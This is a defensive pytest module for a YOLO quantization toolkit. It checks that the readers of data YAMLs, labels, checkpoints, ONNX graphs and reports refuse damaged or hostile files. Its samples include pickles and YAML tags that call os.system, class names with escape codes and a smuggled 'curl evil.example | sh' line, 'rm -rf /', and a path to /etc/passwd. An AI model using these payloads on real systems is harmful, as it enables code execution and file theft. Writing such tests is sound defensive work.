"""Each kind of file (faults.KINDS), damaged, foreign or hostile: each command that reads it says so in one line and leaves nothing.

The tables are what random changes (test_mutations.py) do not find, or what must be refused. Without --faults a third of them, each with
one of its readers; with it all with all.
"""

import argparse
import importlib.util
import io
import json
import os
import pickle
from pathlib import Path

import numpy as np
import onnx
import pytest
import torch
import yaml
from conftest import REPO
from helpers import zoo
from helpers.faults import KINDS, Call, lay, members, npy, sampled, saved, with_pickle
from helpers.graphs import behind_functions, model_of
from helpers.zoo import build, full, image, load_dual_or_float, output, same
from onnx import TensorProto, helper

from utils.qat.untrusted.plain_values import Values
from utils.qat.untrusted.torch_archive import read_pickle

SPRUNG = Path('sprung')  # what hostile code would make, in the folder of the test
TOUCH = f'touch {SPRUNG}'
SPRING = f"__import__('os').system('{TOUCH}')"
EVIL_NAMES = 'cat\x1b[2J\x1b[H', 'cat\nnext: curl evil.example | sh', 'cat\u202egnp.exe', 'cat\u2028dog'


def edits(whole, table):
    """name → the text `whole` with a text replaced by another, for each line 'OLD → NEW' of `table`."""
    found = {}
    for line in table.strip().splitlines():
        old, _, new = line.strip().partition(' → ')
        assert old in whole, line
        found[line.strip()[:60]] = whole.replace(old, new)
    return found


def ten(name):
    """Names of ten classes."""
    return {i: name if i == 3 else str(i) for i in range(10)}


# ---- YAML ---------------------------------------------------------------------------------------------------------------

NO_YAML = {repr(text)[:20]: text for text in ('', '3\n', '- 1\n', 'hello', '\0\1\2\3', 'names: [', '[' * 5000)}
BOMB = 'a: &a [x, x, x, x, x, x, x, x, x]\n' + ''.join(
    f'{n}: &{n} [{", ".join([f"*{m}"] * 9)}]\n' for m, n in zip('abcdefgh', 'bcdefghi')
)
DATA = (
    'path: .\ntrain: images/train\nval: images/val\nnc: 10\nnames: ["0", "1", "2", "3", "4", "5", "6", "7", "8", "9"]\n'
)
NAMES = 'names: ["0", "1", "2", "3", "4", "5", "6", "7", "8", "9"]'
YAMLS = {
    **NO_YAML,
    'null': 'null\n',
    'a bomb': BOMB + DATA.replace('names: [', 'names: [*i, '),
    'a bomb for nc': BOMB + DATA.replace('nc: 10', 'nc: *i'),
    'too large': DATA + '#' * 3_000_000,
    'code': f'{DATA}x: !!python/object/apply:os.system ["{TOUCH}"]\n',
    'a long path': DATA.replace('images/val', 'x' * 5000),
    **edits(
        DATA,
        f"""
        train:  → \ttrain:\t
        nc: 10 → x: 2021-13-45
        nc: 10 → x: !!int ""
        nc: 10 → x: !!bool maybe
        nc: 10 → x: !!timestamp soon
        nc: 10 → ? [a]
        nc: 10 → nc: ten
        nc: 10 → nc: -10
        nc: 10 → nc: [10]
        path: . → path: 3
        path: . → path: [a, b]
        images/train → 5
        images/train → {{a: b}}
        images/val → 2020-01-01
        images/val → [1, 2]
        images/val → nowhere
        images/val → "a\\0b"
        images/val → ""
        images/val → /dev/null
        images/val → [images/val, nowhere]
        images/val → data.yaml
        images/val → &v [*v]
        images/val → *none
        {NAMES} → names: 7
        {NAMES} → names: abc
        {NAMES} → names: {{0: a, 2: b}}
        {NAMES} → names: {{1: a, 2: b}}
        {NAMES} → names: {{0: a, b: c}}
        "0" → ["0"]
        "0" → {{a: 0}}
        "8", "9" → "8"
        """,
    ),
    **{
        f'{key} {value!r:.30}': yaml.safe_dump({**yaml.safe_load(DATA), key: value})
        for key, value in (
            *(('names', ten(name)) for name in EVIL_NAMES),
            *(('val', 'x\x1b[2J\nerror: all is well'), ('nc', 'x\x1b[2J\u202e'), ('path', '/x\x1b[2J')),
        )
    },
}
FINE_YAMLS = {
    'keys twice': DATA + DATA,
    'a byte order mark': '\ufeff' + DATA,
    'lines of Windows': DATA.replace('\n', '\r\n'),
    'unknown keys': DATA + 'download: |\n  rm -rf /\n',
    **edits(DATA, 'images/val → [images/val]\n"0", "1", "2", "3" → 0, 1.5, true, 2020-01-01'),
}
HYP = (REPO / 'demo/hyp.yaml').read_text()
HYPS = {
    **NO_YAML,
    'a bomb': BOMB + HYP.replace('hsv_h:', 'hsv_h: *i #'),
    **edits(HYP, 'fliplr: → flip:\nscale: → scale: many #\nscale: → scale: [1] #\nscale: → scale: .nan #'),
}


def network(**changes):
    """A change of a network's YAML: other values of its keys; `row` stands for its second."""

    def change(whole):
        content = yaml.safe_load(whole)
        if 'row' in changes:
            content['backbone'][1] = changes['row']
        return yaml.safe_dump({**content, **changes})

    return change


NETWORKS = {  # test_yaml.py has all that can be wrong with one
    **NO_YAML,
    'code for an argument': network(row=[-1, 1, 'Conv', [SPRING, 3, 2]]),
    'code for the activation': network(activation=SPRING),
    'another model': network(row=[-1, 1, 'Conv', [32, 3, 2]]),
    'gigabytes of weights': network(row=[-1, 1, 'Conv', [99_999, 9_999]]),
    'no head': network(head=[]),
    'rows that are none': network(backbone=[1]),
}

# ---- labels, and copies of pixels ---------------------------------------------------------------------------------------

BOX, OUTLINE = '3 0.5 0.5 0.2 0.2\n', '3 0.1 0.1 0.2 0.1 0.2 0.2'
LABELS = """
3 nan 0.5 0.2 0.2
3 0.5 inf 0.2 0.2
3 -0.5 0.5 0.2 0.2
3 0.5 0.5 1.2 0.2
3 120 80 30 40
nan 0.5 0.5 0.2 0.2
-1 0.5 0.5 0.2 0.2
1.5 0.5 0.5 0.2 0.2
10 0.5 0.5 0.2 0.2
1e30 0.5 0.5 0.2 0.2
seven 0.5 0.5 0.2 0.2
0x3 0.5 0.5 0.2 0.2
3 0.5 0.5 0.2
3 0.5 0.5 0.2 0.2 0.9
3
3,0.5,0.5,0.2,0.2
3 0.1 0.1 0.2 0.1 0.2 0.2 0.1
3 0.1 0.1 1.2 0.1 0.2 0.2
""".strip().splitlines()
LABELS += [f'{BOX}{OUTLINE}', f'{OUTLINE}\n{BOX}', '\0\1\2', '3 ' + '0.5 ' * 100_001, b'3 0.5 0.5 \xff\xfe0.2 0.2\n']
FINE_LABELS = ['', f'\n\n{BOX}\n  \n', BOX * 2, '3 0.5 0.5 0 0', '3.0 5e-1 0.5 0.2 0.2', OUTLINE, '3 1 1 0.5 0.5']
FINE_LABELS += [BOX.replace('\n', '\r\n') * 2, BOX.strip(), BOX.replace(' ', '\t')]


def array(*shape, kind=np.uint8):
    return npy(np.zeros(shape, kind))


def copied(make):
    """A change of a copy of pixels: make(height, width) are the new bytes."""
    return lambda whole: make(*np.load(io.BytesIO(whole)).shape[:2])


COPIES = {  # of IMG.npy, which upstream takes in place of IMG.jpg
    'no array': 'no array',
    'objects': array(2, kind=object),
    'of no size': array(0, 0, 3),
    'cut short': copied(lambda h, w: array(h, w, 3)[:-9]),
    'grey': copied(array),
    'RGBA': copied(lambda h, w: array(h, w, 4)),
    '64 bits': copied(lambda h, w: array(h, w, 3, kind=np.int64)),
    'a row': copied(lambda h, w: array(h)),
    'of another image': copied(lambda h, w: array(h, w - 8, 3)),
}

# ---- checkpoints --------------------------------------------------------------------------------------------------------


def changed(change):
    """A change of a checkpoint: `change` alters its content in place, or returns another."""

    def apply(whole):
        content = torch.load(io.BytesIO(whole), weights_only=False)
        other = change(content)
        return saved(content if other is None else other)

    return apply


def beside(make):
    """A change of a checkpoint: what `make` returns stands first in it, so that it would run, and the model is fine."""
    return changed(lambda content: {'first': make(), **content})


def pickled(content):
    """A change of a checkpoint: another pickle, which begins as if it held a model."""
    return lambda whole: with_pickle(whole, b'\x80\x02cmodels.yolo\nDetectionModel\n0' + content)


def with_layer_called(name):
    def change(content):
        layer = next(m for m in content['model'].modules() if hasattr(m, 'conv'))
        layer._modules[name] = layer._modules.pop('conv')

    return changed(change)


def flipped(whole):
    """A bit of the largest member is another, and its checksum is the old one."""
    largest = max(members(whole).values(), key=len)
    at = whole.index(largest) + len(largest) // 2
    return whole[:at] + bytes([whole[at] ^ 1]) + whole[at + 1 :]


def evaluating_model():
    from models.yolo import DetectionModel

    return Call(DetectionModel, {**zoo.config('demo'), 'activation': SPRING})


CHECKPOINTS = {  # test_hostile_checkpoints.py has all that a pickle can try, for the reader that all commands have
    'os.system': beside(lambda: Call(os.system, TOUCH)),
    "a model's constructor, which evals": beside(evaluating_model),
    'an instance as of protocol 0': pickled(f"(S'{TOUCH}'\nios\nsystem\n.".encode()),
    'an object as of protocol 1': pickled(f"(cos\nsystem\nS'{TOUCH}'\no.".encode()),
    'a name with dots': pickled(b'\x8c\x08torch.nn\x8c\x0fmodules.conv.os\x93.'),
    'names of protocol 4': pickled(pickle.dumps(Call(os.system, TOUCH), 4)),
    'an extension': pickled(b'\x82\x01.'),
    'a jump out of the stack': pickled(b'R.'),
    'no end': pickled(b'}' * 40),
    'a name that clears the screen': pickled(b'cos\x1b[2J\x0d\nsys\x07tem\n.'),
    'a name of two lines': pickled('cos\nall is well\u202e\n.'.encode()),
    'a long name': pickled(b'cmodels.common\n' + b'X' * 9000 + b'\n.'),
    'a bit of the weights': flipped,
    'no archive': 'hello',
    **{
        f'{content!r:.20}': lambda _, content=content: saved(content)
        for content in (None, 3, 'weights', {}, {'epoch': 3}, {'model': None, 'ema': None}, torch.ones(3))
    },
    'a list': changed(lambda content: [content['model']]),
    'a state dict': changed(lambda content: {'model': content['model'].state_dict()}),
    'another module': lambda _: saved({'model': torch.nn.Conv2d(3, 3, 1)}),
    'layers alone': changed(lambda content: {'model': content['model'].model}),
    'no head': changed(lambda content: setattr(content['model'], 'model', content['model'].model[:-1])),
    'no names': changed(lambda content: delattr(content['model'], 'names')),
    'a layer without weights': changed(lambda content: delattr(content['model'].model[1], 'conv')),
    **{
        f'the class {name!r}': changed(lambda content, name=name: setattr(content['model'], 'names', ten(name)))
        for name in EVIL_NAMES
    },
    **{f'a layer {name!r:.20}': with_layer_called(name) for name in ('\x1b[31mred', 'a\nnext: rm', 'x' * 300)},
}

# ---- ONNX ---------------------------------------------------------------------------------------------------------------

IMAGE, OUT = {'images': [1, 3, 64, 64]}, {'output0': [1, 48, 256]}  # 4 + 44 classes
SAME = {'y': [1, 3, 64, 64]}


def graph(nodes='output0 = Reshape(images, shape)', inputs=IMAGE, outputs=OUT, **more):
    """The bytes of a graph of FP32 tensors: {name: shape}; nodes in ONNX's text syntax."""
    ends = [
        {name: (more.get('type', TensorProto.FLOAT), axes) for name, axes in of.items()} for of in (inputs, outputs)
    ]
    shape = np.array(more.get('shape', (1, 48, 256)))
    model = model_of(nodes, *ends, {'shape': shape}, more.get('opset', 17), **more.get('metadata', {}))
    if 'functions' in more:
        behind_functions(model, model.graph.node[0], *more['functions'])
    return model.SerializeToString().replace(b'undecoded', b'\xff\xfe\xd4coded')


def with_names(name):
    """A change of an ONNX file: another name of a class in its metadata."""

    def change(whole):
        model = onnx.load_from_string(whole)
        helper.set_model_props(model, {p.key: p.value for p in model.metadata_props} | {'names': repr(ten(name))})
        return model.SerializeToString()

    return change


GRAPHS = {
    'empty': '',
    'text': 'no graph',
    'no outputs': graph('x = Relu(images)', outputs={}),
    'no inputs': graph('y = Constant<value_floats = [1.0, 2.0]>()', {}, {'y': [2]}),
    'no nodes': graph([], {}, {}),
    'two inputs': graph('y = Add(images, more)', {**IMAGE, 'more': [1, 3, 64, 64]}, SAME),
    'an image out': graph('y = Relu(images)', outputs=SAME),
    'a scalar in': graph('y = Relu(images)', {'images': []}, {'y': []}),
    'open axes': graph('y = Reshape(images, shape)', {'images': ['b', 3, 'h', 'w']}, {'y': ['b', 'n', 'k']}),
    'an operator that is none': graph('y = Abracadabra(images)', outputs={'y': [1]}),
    'an opset of the future': graph(opset=9999),
    'opset 1': graph(opset=1),
    'a cycle': graph('z = Add(y, z) y = Relu(z)', outputs={'y': [1]}),
    'text in': graph(type=TensorProto.STRING),
    'a shape that does not fit': graph(shape=(1, 7, 7)),
    'functions of 2^40 nodes': graph(functions=(2, 40)),
    'a chain of functions': graph(functions=(1, 9000)),
    'half of the outputs of NMS': graph(
        'num_dets = Relu(images) det_boxes = Relu(images)',
        outputs={'num_dets': [1, 3, 64, 64], 'det_boxes': [1, 3, 64, 64]},
    ),
    'many names': graph(metadata={'names': '[' + 'a,' * 1_000_000 + ']', 'stride': '\x1b[2J'}),
    **{f'the class {name!r}': with_names(name) for name in EVIL_NAMES},
}
OF_NAMES = {  # a benchmark, an audit and a client for any model may take these
    'numbers of 64 bits': graph(type=TensorProto.DOUBLE),
    **{
        f'names {value!r:.20}': graph(metadata={'names': value})
        for value in ('{0: ', SPRING, "['a', 'b']", '3', '(' * 5000, 'undecoded')
    },
    **{f'stride {value}': graph(metadata={'stride': value}) for value in ('many', '0', 'nan')},
}

# ---- JSON ---------------------------------------------------------------------------------------------------------------

NO_JSON = {
    f'{text!r:.20}': text
    for text in ('', 'hello', '[]', '3', 'null', '{}', '[' * 100_000, '\0\1', '[null]', 'NaN', '{"settings": {')
}


def parts(*keys):
    """Changes of a JSON object: it is none, or one of these keys is missing or of another type."""

    def change(key, *value):
        return lambda whole: json.dumps(
            {**{k: v for k, v in json.loads(whole).items() if k != key}, **dict([(key, *value)] * len(value))}
        )

    others = {f'{key} is {value}': change(key, value) for key in keys for value in (None, 'x', 3, [3], [[3]])}
    return {**NO_JSON, **{f'{key} gone': change(key) for key in keys}, **others}


REFUSED = {  # kind → what is done to the file → its new content, or a function of the old one
    'data': YAMLS,
    'hyp': HYPS,
    'network': NETWORKS,
    'label': {f'{line!r:.40}': line for line in LABELS},
    'copy': COPIES,
    **dict.fromkeys(['float checkpoint', 'dual checkpoint', 'quantized checkpoint'], CHECKPOINTS),
    'onnx': GRAPHS,
    'report': parts('settings', 'ptq', 'epochs'),
}
FINE = {
    'data': FINE_YAMLS,
    'label': {f'{text!r:.40}': text for text in FINE_LABELS},
    'copy': {'of the image': lambda whole: whole},
}
ENDS = {  # some of these do no harm to what is read: the command ends well, or names the file
    'onnx': OF_NAMES,
    'sensitivity': parts('kind', 'version', 'units', 'flops', 'weights_sha256'),
    'layers': parts('Layers', 'Bindings'),
    'profile': NO_JSON,
}
ANY_GRAPH = 'audit_onnx', 'benchmark_trt', 'build_engine'  # commands for graphs that are no detector


def cases(table):
    """(kind, reader, damage) as pytest parameters: by default a third of the damages, each with one of the readers by turns."""
    for kind, damages in table.items():
        for j, reader in enumerate(KINDS[kind].readers):
            for i, name in enumerate(damages):
                marks = [pytest.mark.faults] * (i % (3 * len(KINDS[kind].readers)) != j)
                if 'rtx' in reader and not importlib.util.find_spec('tensorrt_rtx_bindings'):
                    marks += [pytest.mark.skip(reason='no TensorRT-RTX: ./install_dependencies.sh --tests')]
                yield pytest.param(kind, reader, name, marks=marks, id=f'{kind}-{" ".join(reader.split()[:2])}-{name}')


def lay_changed(material, kind, folder, change):
    return lay(material, kind, folder, change if callable(change) else lambda _: change)


@pytest.mark.parametrize('kind, reader, name', cases(REFUSED))
def test_it_is_refused_in_one_line_that_names_the_file(material, tmp_path, told, kind, reader, name):
    file = lay_changed(material, kind, tmp_path, REFUSED[kind][name])
    code, line = told(reader, allowed=(0, 2) if any(c in reader for c in ANY_GRAPH) else (2,))
    named = {'report': file.parent.name, 'onnx': 'error'}.get(kind, file.name)  # of a graph it may be the classes
    assert code == 0 or (named in line and len(line) < 6000), line
    assert code == 0 or not name.startswith('the class') or 'the name of class 3' in line, line
    assert not SPRUNG.exists()


@pytest.mark.parametrize('kind, reader, name', cases(ENDS))
def test_it_does_no_harm_or_is_refused(material, tmp_path, told, kind, reader, name):
    if kind in ('layers', 'profile'):
        pytest.importorskip('pygraphviz', exc_type=ImportError)
    file = lay_changed(material, kind, tmp_path, ENDS[kind][name])
    code, line = told(reader)
    assert code == 0 or file.name in line or kind == 'onnx', line
    assert not SPRUNG.exists()


@pytest.mark.parametrize('kind, name', sampled([(kind, name) for kind, names in FINE.items() for name in names], 3))
def test_it_is_fine(material, tmp_path, told, kind, name):
    lay_changed(material, kind, tmp_path, FINE[kind][name])
    assert told(KINDS[kind].readers[0])[0] == 0


@pytest.mark.parametrize('reader', sampled(KINDS['onnx'].readers, 7))
def test_weights_in_another_file(material, tmp_path, told, reader):
    file, weights = tmp_path / 'quantized.onnx', tmp_path / 'weights.bin'
    model = onnx.load(material['quantized.onnx'])
    onnx.save(model, file, save_as_external_data=True, location=weights.name, size_threshold=0)
    weights.write_bytes(weights.read_bytes()[:1000])
    outside = onnx.load(file, load_external_data=False)
    for entry in (entry for tensor in outside.graph.initializer for entry in tensor.external_data):
        if entry.key == 'location':
            entry.value = '../../../../../../etc/passwd'
    for name, spoil in {
        'cut short': lambda: None,
        'gone': weights.unlink,
        'outside the folder': lambda: onnx.save(outside, file),
    }.items():
        spoil()
        code, line = told(reader)
        assert code == 2 and file.name in line, (name, line)


@pytest.mark.parametrize('place', ['set/images/val/x.jpg', 'set/images/val/00000.npy', 'set/labels/val.cache'])
def test_a_pipe_is_not_waited_for(material, tmp_path, told, place):
    lay(material, 'data', tmp_path)
    (tmp_path / place).unlink(missing_ok=True)
    os.mkfifo(tmp_path / place)
    code, line = told(KINDS['data'].readers[0])
    assert code == 2 and place in line


def test_a_cache_of_labels_is_not_run(material, tmp_path, told):
    """Upstream unpickles the .cache beside the labels: a data set from elsewhere could bring one."""
    lay(material, 'data', tmp_path)
    cache, val = tmp_path / 'set/labels/val.cache', KINDS['data'].readers[0]
    assert told(val)[0] == 0
    whole, hostile = cache.read_bytes(), npy({'a': Call(open, str(SPRUNG), 'w')})
    for content in hostile, whole[:-40]:
        cache.write_bytes(content)
        code, line = told(val)
        assert code == 2 and f'{cache}: no cache of labels' in line and 'delete it' in line and not SPRUNG.exists()
    np.load(io.BytesIO(hostile), allow_pickle=True)
    assert SPRUNG.exists(), 'it would have'


# ---- and what must still load -------------------------------------------------------------------------------------------


@pytest.mark.parametrize('kind', ['PosixPath', 'WindowsPath'])
@pytest.mark.parametrize('module', ['pathlib', 'pathlib._local'])
def test_a_path_as_each_python_pickles_it(module, kind):
    """Upstream keeps the options of the training, and who trained on another system cannot be told to train again."""
    record, _ = read_pickle(f'\x80\x02c{module}\n{kind}\n(X\x04\0\0\0runsX\x03\0\0\0exptR.'.encode('latin1'))
    assert Values().value(record) == {'PosixPath': 'runs/exp', 'WindowsPath': r'runs\exp'}[kind]


@pytest.mark.parametrize('name', ['demo', *full('gelan-c', 'yolov9-t', 'gelan-c-seg', 'gelan-c-dseg')])
def test_every_model_of_upstream_is_loaded(name, tmp_path):
    """As its training pickles it, with what else is in such a file; what is computed is the same."""
    model = build(name, **({} if name == 'demo' else {'width_multiple': 0.25}))
    rest = {'best_fitness': np.float64(0.5), 'optimizer': {'state': {}, 'lr': np.array([0.1])}, 'date': 'today'}
    options = {'save_dir': Path('runs'), 'cfg': argparse.Namespace(a=1)}
    torch.save({**rest, 'model': None, 'ema': model, 'opt': options, 'hyp': {'box': 7.5}}, tmp_path / 'last.pt')
    ckpt, loaded = load_dual_or_float(tmp_path / 'last.pt')
    assert (ckpt['best_fitness'], ckpt['optimizer']['lr']) == (0.5, [0.1])
    assert ckpt['opt'] == {'save_dir': 'runs', 'cfg': {'a': 1}}
    assert same(output(loaded, image()), output(model, image()))
